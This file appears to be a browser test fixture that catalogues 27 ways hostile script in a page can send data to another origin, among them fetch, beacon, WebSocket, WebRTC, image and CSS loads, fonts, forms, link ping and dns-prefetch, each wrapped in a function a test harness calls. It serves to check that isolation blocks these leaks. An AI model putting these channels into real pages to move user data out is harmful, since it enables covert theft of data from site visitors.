/**
 * 27 ways in which hostile code in the page could get a word out, one per entry. `to` is an address on another origin that
 * counts who calls; `ports` are sockets of other kinds there. Runs as a script of the app's own origin, the worst case.
 */
const element = (tag, attributes) => document.body.appendChild(Object.assign(document.createElement(tag), attributes));
const link = (rel, attributes) => document.head.appendChild(Object.assign(document.createElement('link'), { rel, ...attributes }));

const CHANNELS = {
  fetch: (to) => fetch(to, { mode: 'no-cors' }),
  'fetch keepalive': (to) => fetch(to, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open('GET', to);
    request.send();
  },
  beacon: (to) => navigator.sendBeacon(to, 'x'),
  websocket: (to) => new WebSocket(to.replace('http', 'ws')),
  'event source': (to) => new EventSource(to),
  webrtc: async (_, ports) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${ports.webrtc}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  webtransport: (_, ports) => new WebTransport(`https://127.0.0.1:${ports.webtransport}/x`).ready,
  image: (to) => element('img', { src: to }),
  'image srcset': (to) => element('img', { srcset: `${to} 1x` }),
  'svg image': (to) => {
    const svg = document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));
    svg.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'image')).setAttribute('href', to);
  },
  'css background': (to) => {
    element('div', { textContent: 'x' }).style.backgroundImage = `url(${to})`;
  },
  'css cursor and mask': (to) => {
    element('div', { textContent: 'x' }).style.maskImage = `url(${to})`;
  },
  stylesheet: (to) => link('stylesheet', { href: to }),
  font: (to) => new FontFace('x', `url(${to})`).load(),
  script: (to) => element('script', { src: to }),
  'dynamic import': (to) => import(to),
  iframe: (to) => element('iframe', { src: to }),
  object: (to) => element('object', { data: to }),
  video: (to) => element('video', { src: to, preload: 'auto' }),
  form: (to) => element('form', { action: to, method: 'post' }).submit(),
  navigation: (to) => {
    location.href = to;
  },
  'new window': (to) => window.open(to),
  'link ping': (to) => element('a', { href: '#x', ping: to, textContent: 'x' }).click(),
  prefetch: (to) => link('prefetch', { href: to }),
  preconnect: (_, ports) => link('preconnect', { href: `http://127.0.0.1:${ports.preconnect}` }),
  'dns prefetch': (_, __, name) => link('dns-prefetch', { href: `//${name}` }),
};

window.channelNames = Object.keys(CHANNELS);
window.leakBy = async (name, to, ports, host) => {
  try {
    await CHANNELS[name](to, ports, host);
  } catch (cause) {
    return String(cause);
  }
  return 'tried';
};
